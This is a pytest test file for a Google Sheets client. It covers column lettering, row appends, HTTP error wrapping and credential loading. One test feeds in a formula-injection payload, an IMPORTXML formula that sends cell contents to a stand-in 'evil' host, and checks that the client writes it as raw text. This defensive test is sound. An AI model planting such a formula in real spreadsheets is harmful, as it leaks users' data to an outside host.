from __future__ import annotations

import json
from datetime import datetime, timezone
from unittest.mock import MagicMock

import pytest
from googleapiclient.errors import HttpError

from linesheets.core.exceptions import SheetsConfigurationError, SheetsDeliveryError
from linesheets.models.models import AnalysisResult
from linesheets.modules.sheets import GoogleSheetsClient, column_letter, format_row, load_service_account_credentials


def _service_with_rows(rows):
    service = MagicMock()
    values = service.spreadsheets.return_value.values.return_value
    values.get.return_value.execute.return_value = {"values": rows} if rows is not None else {}
    return service, values


def _http_error(status=500):
    resp = MagicMock(status=status, reason="Server Error")
    return HttpError(resp, b'{"error": {"message": "boom"}}')


@pytest.mark.parametrize("index,letter", [(1, "A"), (10, "J"), (26, "Z"), (27, "AA"), (52, "AZ"), (703, "AAA")])
def test_column_letter(index, letter):
    assert column_letter(index) == letter


def test_empty_sheet_yields_row_two():
    service, values = _service_with_rows(None)
    client = GoogleSheetsClient("sheet-id", "Sheet1", service=service)

    assert client.append_row(["a"] * 10) == 2
    kwargs = values.update.call_args.kwargs
    assert kwargs["range"] == "'Sheet1'!A2:J2"
    assert kwargs["valueInputOption"] == "RAW"
    assert kwargs["body"] == {"values": [["a"] * 10]}


def test_formula_like_text_is_written_verbatim():
    text = '=IMPORTXML("http://evil/?"&A1,"//a")'
    service, values = _service_with_rows([["ts"]])
    client = GoogleSheetsClient("sheet-id", service=service)

    client.append_row(format_row(text, {"phone": "09012345678"}))
    kwargs = values.update.call_args.kwargs
    assert kwargs["valueInputOption"] == "RAW"
    row = kwargs["body"]["values"][0]
    assert row[1] == text
    assert row[4] == "09012345678"


def test_row_is_previous_count_plus_one():
    service, values = _service_with_rows([["ts"], ["r1"], ["r2"]])
    client = GoogleSheetsClient("sheet-id", "受信", service=service)

    assert client.append_row(["x", "y", "z"]) == 4
    assert values.get.call_args.kwargs["range"] == "'受信'!A:A"
    assert values.update.call_args.kwargs["range"] == "'受信'!A4:C4"


def test_missing_spreadsheet_id_is_configuration_error():
    client = GoogleSheetsClient("", service=MagicMock())
    with pytest.raises(SheetsConfigurationError):
        client.append_row(["a"])


def test_missing_credentials_is_configuration_error():
    client = GoogleSheetsClient("sheet-id")
    assert client.is_configured is False
    with pytest.raises(SheetsConfigurationError):
        client.get_row_count()


def test_http_error_on_write_is_delivery_error():
    service, values = _service_with_rows([["ts"]])
    values.update.return_value.execute.side_effect = _http_error(403)
    client = GoogleSheetsClient("sheet-id", service=service)

    with pytest.raises(SheetsDeliveryError) as exc:
        client.append_row(["a", "b"])
    assert exc.value.details["range"] == "'Sheet1'!A2:B2"
    assert exc.value.details["status"] == 403


def test_get_metadata_wraps_http_error():
    service = MagicMock()
    service.spreadsheets.return_value.get.return_value.execute.side_effect = _http_error(404)
    client = GoogleSheetsClient("sheet-id", service=service)
    with pytest.raises(SheetsDeliveryError):
        client.get_metadata()


def test_format_row_with_analysis():
    ts = datetime(2024, 5, 1, 9, 30, tzinfo=timezone.utc)
    extracted = {"name": "Alice", "email": "a@b.com", "count": 42}
    analysis = AnalysisResult(sentiment="positive", urgency="low", category="inquiry")
    row = format_row("Name：Alice", extracted, analysis, timestamp=ts)

    assert len(row) == 10
    assert row[0] == ts.isoformat()
    assert row[1:6] == ["Name：Alice", "Alice", "a@b.com", "", ""]
    assert row[6:9] == ["positive", "low", "inquiry"]
    assert json.loads(row[9]) == extracted


def test_format_row_without_analysis_keeps_non_ascii():
    row = format_row("緊急：至急連絡", {"緊急": "至急連絡"})
    assert row[2:9] == ["", "", "", "", "", "", ""]
    assert row[9] == '{"緊急": "至急連絡"}'


def test_credentials_required(tmp_path):
    with pytest.raises(SheetsConfigurationError):
        load_service_account_credentials(None, None)
    with pytest.raises(SheetsConfigurationError):
        load_service_account_credentials(str(tmp_path / "missing.json"))
    with pytest.raises(SheetsConfigurationError):
        load_service_account_credentials(None, "{not json")
